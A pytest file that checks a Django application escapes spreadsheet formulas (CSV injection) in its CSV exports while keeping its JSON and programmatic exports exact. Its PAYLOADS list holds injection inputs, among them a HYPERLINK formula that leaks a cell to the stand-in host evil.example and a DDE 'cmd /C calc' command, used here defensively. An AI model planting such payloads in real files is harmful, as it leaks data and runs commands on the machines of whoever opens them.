"""Every CSV people open in a spreadsheet is safe there: a cell that could start a formula is escaped (OWASP's CSV
injection guidance) in the portability archive, the rejected-rows file and the register; the archive's JSON and the
clusters export (an exchange file read by programs) keep the values exact."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from cdp.management.commands.resolve_identities import clusters_export
from consent.models import ProcessingActivity
from consent.services.export import subject_export
from consent.services.register_export import register_export_csv
from consent.spreadsheet import ESCAPE, spreadsheet_cell
from tests.cdp.factories import CustomerFactory, ReceiptFactory, SourceRecordFactory
from tests.cdp.importing import read_errors, run_command, write

pytestmark = pytest.mark.django_db

# The payloads: a link that leaks the sheet, a DDE command, a function, and arithmetic that ends in a command.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd",
    "\t=1+1",
    "\r=1+1",
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would read as a formula: none begins with = + - @ tab or CR, but a negative number."""
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "@", "\t", "\r")):
                raise AssertionError(f"formula cell {cell!r}")
            if cell.startswith("-"):
                float(cell.replace(",", "."))  # a negative number is kept as the number it is


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_start_a_formula_is_escaped(payload):
    assert spreadsheet_cell(payload) == ESCAPE + payload


@pytest.mark.parametrize("value", ["-12.50", "-3", "-0,5", "Jeanne", "a=b", "", 42, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_the_portability_archive_escapes_its_csv_cells_and_keeps_its_json_exact(settings, tmp_path):
    # given a customer whose details hold the payloads, and a return (a negative amount)
    settings.MEDIA_ROOT = tmp_path / "media"
    customer = CustomerFactory(
        first_name=PAYLOADS[0], last_name=PAYLOADS[1], address=PAYLOADS[2], city=PAYLOADS[3], postcode="\t=1+1"
    )
    ReceiptFactory(customer=customer, total_minor=-1250, item_count=-1)
    # when the archive is produced
    path = subject_export(customer=customer)
    with zipfile.ZipFile(path) as archive:
        document = json.loads(archive.read("subject.json"))
        customer_csv = archive.read("cdp_customer.csv").decode("utf-8")
        every_csv = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".csv")}
    # then no CSV cell starts a formula, and the customer's cells read as the values with the escape before them
    for text in every_csv.values():
        assert_no_formula(cells(text))
    row = next(csv.DictReader(io.StringIO(customer_csv)))
    assert row["first_name"] == ESCAPE + PAYLOADS[0]
    assert row["last_name"] == ESCAPE + PAYLOADS[1]
    assert row["address"] == ESCAPE + PAYLOADS[2]
    assert row["city"] == ESCAPE + PAYLOADS[3]
    receipt = next(csv.DictReader(io.StringIO(every_csv["cdp_receipt.csv"])))
    assert receipt["total"] == "-12.50"  # a negative decimal stays a number, not an escaped text
    # and the JSON holds the values exactly as stored
    stored = document["tables"]["cdp.Customer"]["rows"][0]
    assert (stored["first_name"], stored["last_name"], stored["address"], stored["city"]) == PAYLOADS[:4]


def test_the_rejected_rows_file_escapes_the_values_it_quotes(tmp_path):
    # given a customers file whose refused rows carry the payloads (an e-mail that is no e-mail, a bad date)
    path = write(
        tmp_path / "customers.csv",
        "external_id,first_name,email,birth_date",
        f'C1,"{PAYLOADS[0].replace(chr(34), chr(34) * 2)}",not-an-email,',
        f"C2,{PAYLOADS[2]},{PAYLOADS[3]},",
        f"C3,Jeanne,jeanne@example.org,{PAYLOADS[1]}",
    )
    errors = tmp_path / "rejected.csv"
    # when it is imported with --errors
    code, _ = run_command("import_customers", path, "crm", errors=str(errors))
    # then the rows are refused and the file quotes them with every formula escaped
    assert code == 1
    text = errors.read_text(encoding="utf-8")
    assert_no_formula(cells(text))
    rows = read_errors(errors)
    assert [row["row"] for row in rows] == ["2", "3", "4"]
    assert rows[0]["first_name"] == ESCAPE + PAYLOADS[0]
    assert rows[1]["email"] == ESCAPE + PAYLOADS[3]
    assert rows[2]["birth_date"] == ESCAPE + PAYLOADS[1]


def test_the_register_csv_escapes_its_cells():
    activity = ProcessingActivity.objects.order_by("pk").first()
    activity.name = PAYLOADS[0]
    activity.security_measures = PAYLOADS[2]
    activity.save()
    rows = list(csv.DictReader(io.StringIO(register_export_csv().decode("utf-8-sig"))))
    assert_no_formula([list(row.values()) for row in rows])
    mine = next(row for row in rows if row["Key"] == activity.key)
    assert (mine["Activity"], mine["Security measures"]) == (ESCAPE + PAYLOADS[0], ESCAPE + PAYLOADS[2])


def test_the_clusters_export_keeps_external_ids_exact(tmp_path):
    # the clusters export is DESIGN.md's exchange file, read by programs: ids come back exactly as imported
    SourceRecordFactory(external_id="-1042")
    out = tmp_path / "clusters.csv"
    assert clusters_export(out) == 1
    rows = cells(out.read_text(encoding="utf-8"))
    assert rows[1][1] == "-1042"
